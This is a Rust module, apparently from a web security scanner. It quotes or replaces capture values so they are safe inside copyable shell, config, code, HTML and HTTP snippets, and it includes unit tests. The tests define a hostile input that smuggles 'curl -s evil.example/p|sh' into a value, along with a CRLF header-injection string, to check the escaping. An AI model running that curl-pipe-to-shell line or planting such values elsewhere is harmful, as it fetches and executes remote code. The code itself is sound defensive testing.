//! Quoting of capture values for the languages of "Fix" snippets.
//!
//! A snippet has a Copy button and ends up in a terminal or a config file, and every value taken
//! from a capture (a host, a URL, a cookie name, a scope) was chosen by a website. So a value
//! enters a snippet only through [`for_lang`]: quoted by that language's rules, or — where the
//! language has no safe quoting for it (an nginx `$`, a VCL `"}`) — replaced by a named
//! placeholder the user fills in.

/// `s` quoted for a snippet in `lang` (the `Snippet::lang` names); `placeholder` names the value
/// when it cannot be quoted safely (`"resource_metadata URL"` → `<resource_metadata URL>`).
pub fn for_lang(lang: &str, s: &str, placeholder: &str) -> String {
    match lang {
        "shell" | "bash" | "sh" | "powershell" => shell(s),
        "js" | "express" | "json" | "python" | "spring" | "java" | "aspnet" | "csharp" | "go" | "yaml" => c_string(s),
        "php" => php(s),
        "nginx" => nginx(s).unwrap_or_else(|| hole(placeholder)),
        "apache" => apache(s).unwrap_or_else(|| hole(placeholder)),
        "vcl" => vcl(s).unwrap_or_else(|| hole(placeholder)),
        "html" => html(s),
        // `http` and anything else: a header line or prose; no control characters.
        _ => line(s).unwrap_or_else(|| hole(placeholder)),
    }
}

fn hole(name: &str) -> String {
    format!("<{name}>")
}

/// POSIX shell: single quotes, a quote inside as `'\''` (nothing is special inside `'…'`).
pub fn shell(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// A double-quoted string literal valid in JavaScript, JSON, Python, Java, C#, Go and YAML: JSON's
/// escaping (quotes, backslashes, every control character).
pub fn c_string(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_else(|_| "\"\"".to_string())
}

/// A JavaScript string literal: single-quoted, like our templates, when nothing in `s` needs
/// escaping there; else the escaped double-quoted literal of [`c_string`].
pub fn js(s: &str) -> String {
    if s.chars().any(|c| matches!(c, '\'' | '\\' | '\u{2028}' | '\u{2029}') || c.is_control()) {
        c_string(s)
    } else {
        format!("'{s}'")
    }
}

/// PHP single-quoted string: only `\` and `'` are special.
pub fn php(s: &str) -> String {
    format!("'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"))
}

/// nginx double-quoted string; `None` when the value holds `$` (variable interpolation has no
/// escape) or a control character.
pub fn nginx(s: &str) -> Option<String> {
    (!s.contains('$') && !s.chars().any(char::is_control))
        .then(|| format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\"")))
}

/// Apache double-quoted argument; `None` when the value holds `%{`, `${` (expansions) or a
/// control character.
pub fn apache(s: &str) -> Option<String> {
    (!s.contains("%{") && !s.contains("${") && !s.chars().any(char::is_control))
        .then(|| format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\"")))
}

/// VCL: `"…"` strings have no escapes, so a value with `"` becomes a long string `{"…"}`;
/// `None` when it holds `"}` or a control character.
pub fn vcl(s: &str) -> Option<String> {
    if s.chars().any(char::is_control) || s.contains("\"}") {
        return None;
    }
    Some(if s.contains('"') { format!("{{\"{s}\"}}") } else { format!("\"{s}\"") })
}

/// Text for an HTML snippet, entity-escaped.
pub fn html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// A value for one line of an HTTP or prose snippet; `None` when it holds a control character
/// (a CR/LF would start a new header or command).
pub fn line(s: &str) -> Option<String> {
    (!s.chars().any(char::is_control)).then(|| s.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = "x'; curl -s evil.example/p|sh; echo \"$(id)\" `id` ${HOME} %{ENV}\n\"}";

    /// A POSIX shell word reader for single-quoted words: returns the words of `cmd`.
    fn shell_words(cmd: &str) -> Vec<String> {
        let (mut words, mut cur, mut quoted, mut any) = (Vec::new(), String::new(), false, false);
        let mut chars = cmd.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('\'', _) => {
                    quoted = !quoted;
                    any = true;
                }
                ('\\', false) => {
                    if let Some(n) = chars.next() {
                        cur.push(n);
                        any = true;
                    }
                }
                (c, false) if c.is_whitespace() => {
                    if any {
                        words.push(std::mem::take(&mut cur));
                        any = false;
                    }
                }
                (c, _) => {
                    cur.push(c);
                    any = true;
                }
            }
        }
        if any {
            words.push(cur);
        }
        words
    }

    #[test]
    fn shell_value_stays_one_word() {
        let cmd = format!("curl -s {} | jq .", shell(HOSTILE));
        let words = shell_words(&cmd);
        assert_eq!(words.get(2).map(String::as_str), Some(HOSTILE), "{cmd}");
        assert_eq!(words.len(), 6, "{words:?}");
    }

    #[test]
    fn c_string_round_trips_as_json() {
        let q = c_string(HOSTILE);
        assert_eq!(serde_json::from_str::<String>(&q).ok().as_deref(), Some(HOSTILE));
        assert!(!q.contains('\n'));
    }

    #[test]
    fn js_keeps_single_quotes_when_safe() {
        assert_eq!(js("https://api.example.com/x"), "'https://api.example.com/x'");
        assert_eq!(js("a'b"), "\"a'b\"");
        assert_eq!(js("a\nb"), "\"a\\nb\"");
    }

    #[test]
    fn php_single_quotes() {
        assert_eq!(php("a'b\\c"), "'a\\'b\\\\c'");
    }

    #[test]
    fn configs_refuse_what_they_cannot_quote() {
        assert_eq!(nginx("/api"), Some("\"/api\"".to_string()));
        assert_eq!(nginx("a\"b"), Some("\"a\\\"b\"".to_string()));
        assert!(nginx("$host").is_none() && nginx("a\nb").is_none());
        assert!(apache("%{HTTP:Authorization}").is_none());
        assert_eq!(vcl("a\"b"), Some("{\"a\"b\"}".to_string()));
        assert!(vcl("a\"}b").is_none());
        assert_eq!(for_lang("nginx", HOSTILE, "origin"), "<origin>");
        assert_eq!(for_lang("http", "a\r\nSet-Cookie: x=1", "value"), "<value>");
    }

    #[test]
    fn html_is_escaped() {
        assert_eq!(html("<img src=x onerror='a'>&"), "&lt;img src=x onerror=&#39;a&#39;&gt;&amp;");
    }
}
